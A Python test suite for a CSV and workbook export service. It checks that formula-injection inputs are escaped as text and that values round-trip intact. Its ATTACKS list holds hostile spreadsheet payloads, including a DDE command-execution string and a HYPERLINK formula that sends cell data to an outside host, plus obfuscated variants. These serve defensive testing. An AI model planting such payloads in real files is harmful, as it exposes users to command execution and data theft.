"""What people typed reaches a spreadsheet as text, and returns from it unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.services import safe_csv

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1)',
    "+1-415-555-0134",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_a_name_is_text(attack: str) -> None:
    (row,) = csv.reader(io.StringIO(safe_csv.lines([[attack, "Sam"]]).decode(), newline=""))
    assert row == [f"'{attack}", "Sam"]


def test_numbers_and_moments_stay_what_they_are() -> None:
    noon = dt.datetime(2026, 3, 1, 12, tzinfo=dt.UTC)
    row = [-5, 3, -1.5, Decimal("-10.20"), True, None, noon, noon.date(), ["a", "b"], "", "O'Hara", "sam@example.com"]
    (streamed,) = csv.reader(io.StringIO(safe_csv.lines([row]).decode(), newline=""))
    assert streamed == safe_csv.cells(row)
    assert streamed == [
        "-5",
        "3",
        "-1.5",
        "-10.20",
        "yes",
        "",
        "2026-03-01T12:00:00+00:00",
        "2026-03-01",
        "a; b",
        "",
        "O'Hara",
        "sam@example.com",
    ]


RISKY_TEXT = st.text(alphabet=st.sampled_from("'=+-@ \t\r\nab,;\"1\u00a0\uff1d"), max_size=12) | st.text(max_size=40)


@given(RISKY_TEXT)
def test_no_text_begins_a_formula_and_all_text_comes_back(text: str) -> None:
    written = safe_csv.cell(text)
    assert safe_csv.cells([text]) == [written]
    assert safe_csv.lines([[text, 1, None]]) == safe_csv.lines([[text, "1", ""]])
    assert written.strip()[:1] not in tuple("=+-@\uff1d")
    assert safe_csv.plain(written) == text


@given(st.lists(st.lists(RISKY_TEXT, min_size=2, max_size=2), max_size=5))
def test_commas_quotes_and_newlines_survive(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(safe_csv.lines(rows).decode(), newline="")))
    assert [[safe_csv.plain(value) for value in row] for row in read] == rows


def test_a_workbook_has_no_formula() -> None:
    file = io.BytesIO()
    noon = dt.datetime(2026, 3, 1, 13, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    rows: list[list[Any]] = [[attack.strip(), -5] for attack in ATTACKS]
    safe_csv.workbook(file, ["Name", "=Total"], [*rows, ["bell\x07" + "x" * 40_000, noon]])
    sheet = load_workbook(file).active
    assert sheet is not None
    read = list(sheet.iter_rows())
    assert {cell.data_type for row in read for cell in row} == {"s", "n", "d"}
    assert [row[0].value for row in read[1:-1]] == [attack.strip() for attack in ATTACKS]
    assert read[-1][0].value == "bell" + "x" * 32_763
    assert read[-1][1].value == dt.datetime(2026, 3, 1, 12)  # noqa: DTZ001
